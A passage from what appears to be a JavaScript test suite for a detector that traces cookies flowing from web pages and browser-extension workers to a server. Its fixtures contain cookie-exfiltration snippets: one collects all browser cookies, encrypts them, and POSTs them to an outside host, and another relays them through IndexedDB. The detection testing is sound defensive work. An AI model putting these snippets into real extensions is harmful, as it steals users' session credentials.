    "chrome.cookies.getAll({}, async (c) => { const k = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, true, ['encrypt']); const e = await crypto.subtle.encrypt({ name: 'AES-GCM', iv: new Uint8Array(12) }, k, new TextEncoder().encode(JSON.stringify(c))); fetch('https://in.a.dev/a', { method: 'POST', body: e }); });",
  indexedDB: `const open = indexedDB.open('d', 1); open.onsuccess = () => { const db = open.result; chrome.cookies.getAll({}, (c) => { db.transaction('s', 'readwrite').objectStore('s').put(c, 'k'); }); db.transaction('s').objectStore('s').get('k').onsuccess = (e) => { ${post('e.target.result')}; }; };`,
};

describe('cookies are followed from a page to a server through', () => {
  for (const [name, code] of Object.entries(inPages)) {
    it(name, () => {
      assert.ok(sentKinds('page', code.replaceAll('{text}', 'document.cookie')).has('cookies'));
      const calm = code.replaceAll('{text}', '(void document.cookie, 5)');
      assert.ok(!sentKinds('page', calm).has('cookies'));
    });
  }
});

describe('cookies are followed from the browser to a server through', () => {
  for (const [name, code] of Object.entries(inWorkers)) {
    it(name, () => {
      assert.ok(sentKinds('worker', code).has('cookies'));
      assert.ok(!sentKinds('worker', code.replaceAll('cookies', 'alarms')).has('cookies'));
    });
  }
});
